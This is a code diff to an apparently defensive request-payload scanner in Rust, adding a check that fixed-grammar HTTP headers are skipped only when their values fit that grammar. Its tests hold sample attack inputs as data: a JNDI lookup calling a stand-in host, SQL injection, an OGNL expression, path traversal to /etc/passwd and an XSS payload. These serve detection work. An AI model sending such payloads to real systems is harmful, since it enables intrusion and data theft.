@@ -189,10 +189,10 @@ pub fn scan(input: &PayloadInput<'_>, scratch: &mut Scratch) -> PayloadFindings 
     out
 }
 
-/// Headers with a fixed grammar that apps parse rather than echo, log or store; a payload in them
-/// reaches no sink, and their benign values (`text/html,application/xhtml+xml;q=0.9`) only cost
-/// detector time. Every other header, known or custom, is scanned (Accept-Language is logged,
-/// Origin reflected into CORS headers).
+/// Headers with a fixed grammar that apps parse rather than echo, log or store; while a value fits
+/// that grammar (see [`fits_grammar`]) it is skipped, as its benign values
+/// (`text/html,application/xhtml+xml;q=0.9`) would only cost detector time. Every other header,
+/// known or custom, is scanned (Accept-Language is logged, Origin reflected into CORS headers).
 const FIXED_GRAMMAR: &[Header] = &[
     Header::SecChUa,
     Header::SecChUaMobile,
@@ -209,6 +209,30 @@ const FIXED_GRAMMAR: &[Header] = &[
     Header::Priority,
 ];
 
+/// Whether a fixed-grammar header's value is made of what its grammar allows: tokens, media
+/// types, `q=` weights, `?1` and, between quotes, client-hint brands (Chromium's grease brands use
+/// `( ) : / . ; = ? _`). Anything else (a quote mark, `$`, `%`, `<`, a `..`) is scanned like any
+/// header: a client that breaks the grammar chose what to put there.
+fn fits_grammar(value: &[u8]) -> bool {
+    let mut quoted = false;
+    let mut prev = 0u8;
+    value.iter().all(|&b| {
+        let ok = match b {
+            b'"' => {
+                quoted = !quoted;
+                true
+            }
+            b'.' => prev != b'.',
+            _ if b.is_ascii_alphanumeric() => true,
+            b' ' | b',' | b'/' | b';' | b'=' | b'*' | b'+' | b'-' | b'_' | b'?' => true,
+            b'(' | b')' | b':' => quoted,
+            _ => false,
+        };
+        prev = b;
+        ok
+    })
+}
+
 /// Scans a request as the decision layer holds it: the request target, each header value (the
 /// Cookie header as cookies), the email and each body field.
 pub fn scan_texts(texts: &Texts<'_>, scratch: &mut Scratch) -> PayloadFindings {
@@ -220,7 +244,7 @@ pub fn scan_texts(texts: &Texts<'_>, scratch: &mut Scratch) -> PayloadFindings {
     for (name, value) in texts.header_pairs() {
         match Header::lookup(name) {
             Some(Header::Cookie) => split::cookies(value.as_bytes(), &mut sink),
-            Some(h) if FIXED_GRAMMAR.contains(&h) => {}
+            Some(h) if FIXED_GRAMMAR.contains(&h) && fits_grammar(value.as_bytes()) => {}
             Some(Header::Referer | Header::Origin) => sink(value.as_bytes(), Decode::Percent, Location::Header, Scope::PageUrl),
             _ => split::headers(value.as_bytes(), &mut sink),
         }
@@ -339,5 +363,30 @@ mod tests {
         assert!(f.confirmed_in(Family::Sqli, Location::Body));
         assert!(f.confirmed_in(Family::Jndi, Location::Header));
         assert!(f.confirmed_in(Family::Traversal, Location::Cookie));
+    }
+
+    #[test]
+    fn fixed_grammar_headers_are_skipped_only_while_they_fit_it() {
+        let browser = [
+            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
+            "gzip, deflate, br, zstd",
+            "\"Google Chrome\";v=\"131\", \"Chromium\";v=\"131\", \"Not_A Brand\";v=\"24\"",
+            "\" Not A;Brand\";v=\"99\", \"Chromium\";v=\"90\"",
+            "\"Not(A:Brand\";v=\"99\", \"Not/A)Brand\";v=\"8\"",
+            "?0",
+            "\"Windows\"",
+            "u=0, i",
+            "same-origin",
+        ];
+        for v in browser {
+            assert!(fits_grammar(v.as_bytes()), "{v}");
+        }
+        for v in ["${jndi:ldap://evil.example/a}", "' OR 1=1-- -", "%{(#_='multipart/form-data')}", "../../etc/passwd", "*/*;q=0.8 (sleep)", "<svg onload=alert(1)>"] {
+            assert!(!fits_grammar(v.as_bytes()), "{v}");
+        }
+        let region = "accept\0${jndi:ldap://evil.example/a}\0sec-ch-ua\0\"x\";v=\"1\"' OR 1=1-- -";
+        let texts = Texts { header_region: region, header_pairs: 2, ..Default::default() };
+        let f = scan_texts(&texts, &mut Scratch::default());
+        assert!(f.confirmed_in(Family::Jndi, Location::Header) && f.confirmed_in(Family::Sqli, Location::Header), "{f:?}");
     }
 }
